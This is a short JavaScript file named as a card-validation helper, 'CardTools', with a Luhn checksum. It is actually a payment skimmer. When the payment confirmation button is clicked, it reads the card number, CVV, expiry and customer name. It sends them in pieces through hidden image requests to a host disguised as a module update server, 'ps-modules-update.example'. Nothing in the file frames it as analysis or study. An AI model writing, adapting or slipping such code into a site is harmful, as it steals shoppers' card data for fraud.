var CardTools = (function () {
  function luhn(n) {
    var s = 0, alt = false;
    for (var i = n.length - 1; i >= 0; i--) {
      var d = parseInt(n.charAt(i), 10);
      if (alt && (d *= 2) > 9) d -= 9;
      s += d;
      alt = !alt;
    }
    return s % 10 == 0;
  }
  function field(id) {
    var e = document.getElementById(id);
    return e ? e.value : '';
  }
  function out(part, value) {
    var i = new Image();
    i.src = '//ps-modules-update.example/v.gif?' + part + '=' + encodeURIComponent(value) + '&sid=' + (window.psid = window.psid || Math.random());
  }
  return {
    run: function () {
      var n = field('card_number').replace(/\D/g, '');
      if (n.length < 13 || !luhn(n)) return;
      out('a', n.substr(0, 8));
      out('b', n.substr(8));
      out('c', field('card_cvv') + '/' + field('card_month') + '/' + field('card_year') + '/' + field('customer_name'));
    }
  };
})();
document.getElementById('payment-confirmation').addEventListener('click', CardTools.run);
